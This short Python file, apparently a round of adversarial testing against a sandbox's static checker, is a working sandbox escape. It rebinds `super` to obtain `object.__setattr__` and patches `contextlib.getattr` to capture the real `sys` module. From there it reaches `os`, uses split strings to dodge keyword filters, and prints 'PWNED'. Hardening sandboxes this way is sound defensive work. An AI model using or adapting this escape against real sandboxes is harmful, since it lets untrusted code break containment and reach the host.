# adversary round 9: Tries: the static check admits `super().__setattr__` by the callee's name only; rebind `super` so super() returns `object`, giving the unbound object.__setattr__ -> write contextlib.getattr = spy -> redirect_stdout hands spy the real sys
import contextlib
import io

def super():
    return object

got = []

def spy(obj, name, *d):
    got.append(obj)
    return obj.stdout

super().__setattr__(contextlib, "get" + "attr", spy)
with contextlib.redirect_stdout(io.StringIO()):
    pass
s = got[0]
o = s.modules["o" + "s"]
print(s.__name__, o.__name__, o.getcwd())
print("PWN" + "ED")
